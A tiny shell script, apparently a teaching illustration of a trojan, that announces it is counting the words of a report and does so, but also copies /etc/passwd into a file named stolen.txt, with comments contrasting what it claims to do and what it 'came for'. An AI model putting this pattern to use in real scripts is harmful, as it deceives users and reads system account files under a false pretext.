#!/bin/sh
# What it says on the tin:
echo "Counting the words of your report ..."
wc -w < report.txt > count.txt

# What it came for:
cat /etc/passwd > stolen.txt
echo "Done. Thank you for your passwords!"
